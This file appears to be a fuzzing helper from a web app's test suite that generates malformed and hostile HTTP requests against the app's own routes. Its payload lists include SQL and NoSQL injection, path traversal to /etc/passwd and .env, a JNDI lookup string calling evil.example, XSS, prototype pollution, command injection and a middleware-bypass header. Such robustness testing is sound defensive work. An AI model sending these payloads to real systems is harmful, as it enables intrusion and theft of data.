import type { Random } from './random.ts';

/** What people put into an address or a field to see what breaks. */
const fragments = [
  "' OR 1=1 --",
  '"; DROP TABLE "Event"; --',
  "') UNION ALL VALUES(1,2,3) --",
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e/%2e%2e/.env',
  '.git/config',
  'package.json',
  '%00',
  '%',
  '%ff%fe',
  '%E0%A4%A',
  '%c0%ae%c0%ae/',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what is sent
  '${7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what is sent
  '${jndi:ldap://evil.example/x}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '$ne',
  '[object Object]',
  'NaN',
  '-1',
  '1e309',
  '9007199254740993',
  '99999999999999999999999999',
  '0x7fffffff',
  'undefined',
  'null',
  'true',
  '\u202e\u0000\ufeff',
  '\ud800',
  '🙂'.repeat(40),
  'A'.repeat(3_000),
  '(((((a+)+)+)+)+)$',
  '%n%n%s%x',
  '`id`',
  '|| sleep 5',
  '\r\nSet-Cookie: evil=1',
  'file:///etc/passwd',
  'http://127.0.0.1:22/',
];

const types = [
  'application/json',
  'application/json; charset=utf-16',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'multipart/form-data',
  'text/plain',
  'text/x-component',
  'application/xml',
  'application/octet-stream',
  '',
];

/** Bodies that are read as something before anybody looks at them, or that are not. */
const bodies: readonly ((hostile: string) => string)[] = [
  (hostile) => hostile,
  (hostile) => JSON.stringify(hostile),
  (hostile) => JSON.stringify([hostile, [hostile]]),
  (hostile) =>
    `{"__proto__":{"admin":true},"constructor":{"prototype":{"x":${JSON.stringify(hostile)}}}}`,
  (hostile) => JSON.stringify({ email: hostile, password: hostile, token: hostile, $ne: null }),
  (hostile) => JSON.stringify({ invitationId: { $gt: hostile }, token: [hostile], claim: 7 }),
  (hostile) => '['.repeat(5_000) + JSON.stringify(hostile),
  (hostile) => `{"a":${'{"a":'.repeat(2_000)}${JSON.stringify(hostile)}`,
  (hostile) => `csrfToken=${hostile}&callbackUrl=https://evil.example&json=true&intent=start`,
  (hostile) => `a[${hostile}]=1&a[__proto__][x]=1&csrfToken=%`,
  (hostile) => `--x\r\nContent-Disposition: form-data; name="${hostile}"\r\n\r\n1\r\n--x--`,
  () => '',
  () => '{',
  () => 'null',
  () => '1e999',
  () => '"\\ud800"',
];

export interface Hostile {
  method: string;
  target: string;
  headers: Record<string, string>;
  body: string;
}

/** A request that nobody would make by mistake, to this address or somewhere near it. */
export function hostileTo(address: string, random: Random): Hostile {
  const fragment = random.pick(fragments) ?? '';
  // What would end the line of a request is not part of an address.
  const written = encodeURI(fragment.replace('\ud800', '%ED%A0%80')).replace(/%25/g, '%');
  const targets = [
    address,
    address,
    `${address}/${written}`,
    address.replace(/[^/]+$/, written),
    `${address}?${written}=${written}&callbackUrl=${written}&error=${written}`,
    `/${written}${address}`,
  ];
  const target = random.pick(targets) ?? address;
  const method =
    random.pick(['GET', 'POST', 'POST', 'POST', 'PUT', 'DELETE', 'PATCH', 'HEAD', 'OPTIONS']) ??
    'GET';
  const body = method === 'GET' || method === 'HEAD' ? '' : (random.pick(bodies)?.(fragment) ?? '');
  const cookie = random.pick([
    '',
    'weerklank-auth=%',
    `weerklank-auth=${written}`,
    'next-auth.csrf-token=%7C; next-auth.callback-url=%E0%A4%A',
    '=;;;=;__proto__=1',
  ]);
  const headers: Record<string, string> = {
    ...(cookie ? { Cookie: cookie } : {}),
    ...(body ? { 'Content-Type': random.pick(types) ?? '' } : {}),
    ...random.pick<Record<string, string>>([
      {},
      { Authorization: 'Bearer %' },
      { Authorization: `Basic ${fragment.length}` },
      { 'X-Forwarded-Host': 'evil.example', 'X-Forwarded-Proto': 'javascript' },
      { 'Next-Action': 'a'.repeat(40) },
      { RSC: '1', 'Next-Router-State-Tree': '%5B' },
      { RSC: '1', 'Next-Router-State-Tree': '%' },
      { 'x-middleware-subrequest': 'proxy:proxy:proxy:proxy:proxy' },
      { 'x-matched-path': '/api/exercises', 'x-invoke-path': '/' },
      { 'Accept-Language': '*;q=NaN' },
      { 'Sec-Fetch-Site': 'same-origin' },
      { Range: 'bytes=0-18446744073709551615' },
      { 'If-None-Match': '*' },
    ]),
  };
  return { method, target, headers, body };
}
